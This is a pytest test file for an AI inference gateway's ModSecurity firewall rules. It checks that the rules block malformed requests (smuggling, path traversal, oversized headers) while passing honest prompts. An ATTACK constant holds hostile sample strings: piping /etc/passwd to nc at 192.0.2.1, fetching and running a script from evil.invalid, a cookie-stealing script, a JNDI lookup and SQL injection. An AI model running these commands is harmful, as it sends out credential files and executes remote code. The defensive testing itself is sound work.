"""The gateway's rules for a firewall, in ModSecurity before a gateway: both refuse the same, and no more."""

from __future__ import annotations

import ast
import inspect
import json
import re
import socket
import textwrap
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import modsecurity
import numpy as np
import openai
import pytest
import tritonclient.http as triton
from hypothesis import given, settings
from hypothesis import strategies as some
from modsecurity import Engine

from freehold.gateway.app import Gateway
from freehold.gateway.bounds import Bounds
from freehold.gateway.described import served
from freehold.gateway.firewall import FIRST_ID, IDS, seclang
from tests.gateway.conftest import COLUMNS, Site
from tests.gateway.test_edge import status
from tests.gateway.test_first_token import WORDS, Provider

MANUAL = Path(__file__).parents[2] / "docs" / "manual" / "running.md"
SMALL = Bounds(headers=2000, body=5000, header_lines=20, linger=0.05, drain=5, ship=2, record=3)
ASK = {
    "/v1/chat/completions": {"messages": [{"role": "user", "content": "good day"}]},
    "/v1/completions": {"prompt": "good day"},
    "/v1/embeddings": {"input": "good day"},
    "/v1/moderations": {"input": "good day"},
    "/v1/responses": {"input": "good day"},
}
TENSOR = {"name": "text", "shape": [1], "datatype": "BYTES", "data": ["water"]}
ATTACK = """' OR 1=1; DROP TABLE claims; -- UNION SELECT password FROM users
; cat /etc/passwd | nc 192.0.2.1 4444 & $(curl -s http://evil.invalid/x.sh|sh)
<script>alert(document.cookie)</script> ../../../../etc/shadow ${jndi:ldap://evil.invalid/a} {{7*7}}"""
"""What a generic set of rules takes for an attack, and here is what somebody asks about."""


@dataclass(frozen=True)
class Front:
    """A gateway, and nginx with the rules before it."""

    behind: str
    url: str
    key: str
    log: Path

    @property
    def headers(self) -> dict[str, str]:
        return {"authorization": f"Bearer {self.key}", "x-freehold-purpose": "claims-handling"}


@pytest.fixture
def bounds() -> Bounds:
    return Bounds(linger=0.05, drain=5, ship=2, record=3)


@pytest.fixture
def front(site: Site, bounds: Bounds, tmp_path: Path) -> Iterator[Front]:
    site.own()
    site.own("scorer", COLUMNS)
    site.attached(site.upstream()[1])
    key = site.key()
    site.publish()
    site.up(bounds)
    with modsecurity.before(site.url, seclang(bounds), tmp_path / "nginx") as (url, log):
        yield Front(site.url, url, key, log)


@pytest.fixture
def engine(bounds: Bounds) -> Iterator[Engine]:
    engine = Engine(seclang(bounds))
    yield engine
    engine.close()


# -- what is honest passes ------------------------------------------------------------------------------


def test_every_route_that_is_served_passes(front: Front, http: httpx.Client) -> None:
    for path in served()["GET"]:
        for end in ("", "/"):
            asked = http.get(front.url + path.format(model="triage") + end, headers=front.headers)
            assert asked.status_code == 200, (path, asked.text)
    for path in served()["POST"]:
        body: dict[str, Any] = {"model": "chat", **ASK[path]} if path in ASK else {"inputs": [TENSOR]}
        asked = http.post(front.url + path.format(model="triage"), json=body, headers=front.headers)
        assert asked.status_code == 200, (path, asked.text)


def test_every_route_that_the_gateway_knows_is_described() -> None:
    """The rules let in what is described: a route that is only in the code would be shut out."""
    tell = ast.parse(textwrap.dedent(inspect.getsource(Gateway._tell)))
    cases = [case.pattern for case in ast.walk(tell) if isinstance(case, ast.match_case)]
    known = [case.patterns[1] for case in cases if isinstance(case, ast.MatchSequence)]
    paths = {"/" + "/".join(map(_segment, path.patterns)) for path in known}  # type: ignore[attr-defined]
    assert paths == set(served()["GET"])


def _segment(pattern: ast.pattern) -> str:
    is_word = isinstance(pattern, ast.MatchValue) and isinstance(pattern.value, ast.Constant)
    return str(pattern.value.value) if is_word else "{model}"  # type: ignore[attr-defined]


@pytest.mark.parametrize("kind", ["application/json", "application/x-www-form-urlencoded", "text/plain", ""])
def test_a_prompt_full_of_sql_and_shell_is_a_question(front: Front, http: httpx.Client, kind: str) -> None:
    """Whatever the body is called: `curl -d` calls everything a form."""
    body = {"model": "chat", "messages": [{"role": "user", "content": ATTACK}]}
    headers = {**front.headers, "content-type": kind}
    asked = http.post(f"{front.url}/v1/chat/completions", content=json.dumps(body), headers=headers)
    assert asked.json()["choices"][0]["message"]["content"] == f"You said: {ATTACK}"


def test_a_stream_passes_word_by_word(site: Site, front: Front) -> None:
    """The provider writes on only when its caller has had what it wrote."""
    provider = Provider(0)
    site.attached(site.stands(provider), name="slowly")
    site.publish()
    heard = []
    with openai.OpenAI(base_url=f"{front.url}/v1", api_key=front.key, max_retries=0, timeout=20) as client:
        stream = client.chat.completions.create(
            model="slowly",
            messages=[{"role": "user", "content": ATTACK}],
            metadata={"purpose": "claims-handling"},
            stream=True,
        )
        for chunk in stream:
            words = (chunk.choices[0].delta.content or "") if chunk.choices else ""
            heard.append(words)
            site.loop.loop.call_soon_threadsafe(provider.had, len(words))
    assert "".join(heard) == "".join(WORDS)


def test_binary_tensors_pass(front: Front) -> None:
    tensors = []
    for name, values, kind in (
        ("age", np.array([71.0, np.nan]), "FP64"),
        ("claims", np.array([2, 0]), "INT64"),
        ("member", np.array([True, False]), "BOOL"),
    ):
        tensors.append(triton.InferInput(name, [2], kind))
        tensors[-1].set_data_from_numpy(values)
    with triton.InferenceServerClient(front.url.removeprefix("http://")) as client:
        answer = client.infer("scorer", tensors, headers=front.headers)
    assert answer.as_numpy("class").shape == (2,)


def test_nginx_as_the_manual_has_it_lets_questions_through(
    front: Front, http: httpx.Client, tmp_path: Path
) -> None:
    shown = re.search(r"```nginx\n(.*?)```", MANUAL.read_text(), re.DOTALL)
    assert shown
    location = (
        shown[1].replace("/etc/nginx/freehold-waf.conf", "RULES").replace("http://127.0.0.1:7401", "URL")
    )
    with modsecurity.before(front.behind, seclang(Bounds()), tmp_path / "manual", location) as (url, _):
        body = {"model": "chat", "messages": [{"role": "user", "content": ATTACK * 10_000}]}
        asked = http.post(f"{url}/v1/chat/completions", json=body, headers=front.headers)
        assert asked.status_code == 200
        assert http.get(f"{url}/v1/files").status_code == 403


# -- what is not is refused by both ---------------------------------------------------------------------


@dataclass(frozen=True)
class Row:
    """A request, what the rules say of it, and the gateway's own status."""

    method: str
    target: str
    rule: str
    gateway: int
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    before: int = 403
    """By the rules; otherwise nginx's own status, which refuses it before them."""

    def all(self, key: str) -> list[tuple[str, str]]:
        return [("host", "x"), ("connection", "close"), ("authorization", f"Bearer {key}"), *self.headers]

    def sent(self, url: str, key: str) -> bytes:
        """Every byte that is answered."""
        lines = [
            f"{self.method} {self.target} HTTP/1.1",
            *(f"{name}: {v}" for name, v in self.all(key)),
            "",
            "",
        ]
        host, _, port = url.removeprefix("http://").partition(":")
        with socket.create_connection((host, int(port)), timeout=20) as connection:
            with suppress(OSError):  # refused before it was sent
                connection.sendall("\r\n".join(lines).encode() + self.body)
            answer = b""
            with suppress(ConnectionResetError):  # what was answered before is read first
                while piece := connection.recv(65536):
                    answer += piece
            return answer


def chunked(size: int) -> bytes:
    return b"%x\r\n%s\r\n0\r\n\r\n" % (size, b" " * size)


CHAT, LENGTH, CODING = "/v1/chat/completions", "content-length", "transfer-encoding"
CHUNKED = ((CODING, "chunked"),)
MANY = tuple((f"x-{number}", "1") for number in range(98))
LARGE = Bounds().body + 1
TABLE = {
    "a method": Row("PUT", CHAT, "a method that is not served", 404),
    "asking for the head": Row("HEAD", "/v2", "a method that is not served", 404),
    "options": Row("OPTIONS", "/v1/models", "a method that is not served", 404),
    "a method in small letters": Row("get", "/v2", "a method that is not served", 400, before=400),
    "a question that is got": Row("GET", CHAT, "a path that is not served to GET", 404),
    "a list that is posted": Row("POST", "/v1/models", "a path that is not served to POST", 404),
    "nothing": Row("GET", "/", "a path that is not served to GET", 404),
    "a file of a server": Row("GET", "/.git/config", "a path that is not served to GET", 404),
    "what control has": Row("GET", "/v1/files", "a path that is not served to GET", 404),
    "a kept answer": Row("GET", CHAT + "/chatcmpl-1", "a path that is not served to GET", 404),
    "up and down": Row("GET", "/v1/../v2", "a path that is not served to GET", 404),
    "a path in a second line": Row("GET", "/x%0a/v2", "a path that is not served to GET", 404),
    "a path in a first line": Row("GET", "/v2%0ax", "a path that is not served to GET", 404),
    "a hidden slash": Row("GET", "/v2/models/a%2fb", "a path that is not served to GET", 404),
    "headers": Row("GET", "/v2", "more than 100 headers", 431, MANY),
    "a long header": Row("GET", "/v2", "more than 32768 bytes of headers", 431, (("x", "x" * 32768),)),
    "long headers": Row(
        "GET", "/v2", "more than 32768 bytes of headers", 431, (("x", "x" * 17000), ("y", "y" * 17000))
    ),
    "a long target": Row("GET", "/v2?" + "x" * 32768, "more than 32768 bytes of headers", 431),
    "a body": Row(
        "POST", CHAT, f"more than {LARGE - 1} bytes of body", 413, ((LENGTH, str(LARGE)),), b" " * LARGE
    ),
    "a body in chunks": Row("POST", CHAT, "the body", 413, CHUNKED, chunked(LARGE + 1)),
    "a length of JSON": Row(
        *("POST", "/v2/models/triage/infer", "a length that is no number", 400),
        (("inference-header-content-length", "-1"), (LENGTH, "2")),
        b"{}",
    ),
    "a length with a sign": Row(
        "POST", CHAT, "a length that is no number", 400, ((LENGTH, "+2"),), b"{}", before=400
    ),
    "length and chunks": Row(
        "POST", CHAT, "a length beside chunks", 400, ((LENGTH, "4"), *CHUNKED), b"0\r\n\r\n", before=400
    ),
    "two lengths": Row(
        *("POST", CHAT, "a header twice that counts once", 400),
        ((LENGTH, "2"), (LENGTH, "2")),
        b"{}",
        before=400,
    ),
    "two hosts": Row("GET", "/v2", "a header twice that counts once", 400, (("host", "y"),), before=400),
    "two keys": Row(
        "GET", "/v2", "a header twice that counts once", 400, (("authorization", "x"),), before=400
    ),
    "two purposes": Row(
        "GET", "/v2", "a header twice that counts once", 400, (("x-freehold-purpose", "a"),) * 2
    ),
    "another coding": Row(
        *("POST", CHAT, "another coding than chunked", 400),
        ((CODING, "gzip, chunked"),),
        b"0\r\n\r\n",
        before=501,
    ),
    "another protocol": Row(
        *("GET", "/v2", "an upgrade to another protocol", 400),
        (("connection", "upgrade"), ("upgrade", "websocket")),
    ),
    "a packed body": Row(
        "POST", CHAT, "a compressed body", 415, ((LENGTH, "2"), ("content-encoding", "gzip")), b"\x1f\x8b"
    ),
}


def test_what_is_refused_is_refused_by_both(front: Front, engine: Engine) -> None:
    for name, row in TABLE.items():
        found = engine.refuses(row.method, row.target, row.all(front.key), row.body)
        assert found.removeprefix("freehold: ") == row.rule, name
        assert status(row.sent(front.behind, front.key)) == row.gateway, name
        before = row.sent(front.url, front.key)
        assert status(before) == row.before, name
        assert b"freehold" not in before.lower(), f"{name}: it came to the gateway"


def test_what_was_refused_is_told_without_keys_or_prompts(front: Front) -> None:
    for name, row in TABLE.items():
        if row.before == 403 and row.rule != "the body":  # a setting, not a rule: told in ModSecurity's words
            row.sent(front.url, front.key)
            assert f'[msg "freehold: {row.rule}"]' in front.log.read_text(), name
    prompt = json.dumps({"messages": [{"role": "user", "content": "a-marked-word"}]}).encode()
    heads = (
        (LENGTH, str(len(prompt))),
        ("content-encoding", "gzip"),
        ("x-freehold-subject", "a-marked-word"),
    )
    assert status(Row("POST", CHAT, "", 415, heads, prompt).sent(front.url, front.key)) == 403
    written = front.log.read_text()
    assert front.key not in written
    assert "a-marked-word" not in written


# -- the bounds are the gateway's, to the byte ----------------------------------------------------------


@pytest.mark.parametrize("bounds", [SMALL])
@pytest.mark.parametrize("over", [0, 1], ids=["as much as may be", "one more"])
def test_both_count_alike(front: Front, engine: Engine, bounds: Bounds, over: int) -> None:
    few = Row("GET", "/v2", "", 200)
    spare = bounds.headers - len(few.target) - sum(len(n) + len(v) + 4 for n, v in few.all(front.key))
    length = str(bounds.body + over)
    rows = {
        "header": Row("GET", "/v2", "", 0, (("x", "x" * (spare - 5 + over)),)),
        "target": Row("GET", "/v2?" + "x" * (spare - 1 + over), "", 0),
        "lines": Row(
            "GET", "/v2", "", 0, tuple((f"x{n}", "") for n in range(bounds.header_lines - 3 + over))
        ),
        "body": Row("POST", CHAT, "", 0, ((LENGTH, length),), b" " * int(length)),
        "chunks": Row("POST", CHAT, "", 0, CHUNKED, chunked(bounds.body + 2 * over)),
    }
    for name, row in rows.items():
        body = b" " * (bounds.body + 2 * over) if name == "chunks" else row.body
        refused = bool(engine.refuses(row.method, row.target, row.all(front.key), body))
        told = status(row.sent(front.behind, front.key))
        assert (refused, told in (413, 431)) == (bool(over), bool(over)), (name, told)
        if over or name in ("body", "chunks"):  # to headers that fit nginx adds some of its own
            assert (status(row.sent(front.url, front.key)) == 403) == bool(over), name


WORDS_OF_PATHS = sorted({word for paths in served().values() for path in paths for word in path.split("/")})
PIECES = some.sampled_from(
    [*WORDS_OF_PATHS, "triage", "nobody", "..", "%2f", "%0a", "%76", "a b".replace(" ", "%20")]
)
TARGETS = some.builds(
    lambda pieces, query: "/" + "/".join(pieces).replace("{model}", "triage") + query,
    some.lists(PIECES, max_size=5),
    some.sampled_from(["", "?", "?x=/v2", "/"]),
)
KNOWN = some.sampled_from(
    [path.replace("{model}", "triage") for paths in served().values() for path in paths]
)


def test_both_know_the_same_paths(front: Front, engine: Engine) -> None:
    served_there, unknown = set(), set()

    @settings(max_examples=400)
    @given(some.sampled_from(["GET", "GET", "POST", "DELETE"]), TARGETS | KNOWN)
    def look(method: str, target: str) -> None:
        row = Row(method, target, "", 0, ((LENGTH, "2"),), b"{}")
        answer = row.sent(front.behind, front.key)
        refused = engine.refuses(method, target, row.all(front.key), row.body)
        if re.search(rb"x-freehold-reason: (no-such-path|lives-elsewhere)", answer):
            unknown.add(target)
            assert refused, "the gateway has nothing there"
        elif status(answer) < 400:
            served_there.add(target)
            assert not refused, "the gateway answers there"

    look()
    assert len(served_there) > 5
    assert len(unknown) > 20


# -- as a file ------------------------------------------------------------------------------------------


def test_every_rule_has_an_id_of_the_range_that_its_head_names() -> None:
    for first in (FIRST_ID, 5):
        text = seclang(Bounds(), first)
        ids = [int(found) for found in re.findall(r"\bid:(\d+)", text)]
        assert ids == list(range(first, first + len(ids)))
        assert len(ids) < IDS // 2, "there is room for later ones"
        assert f"ids {first} to {first + IDS - 1}" in text
        assert len(re.findall(r"phase:1", text)) == len(ids)
    assert "id:74000" not in seclang(Bounds(), 5)
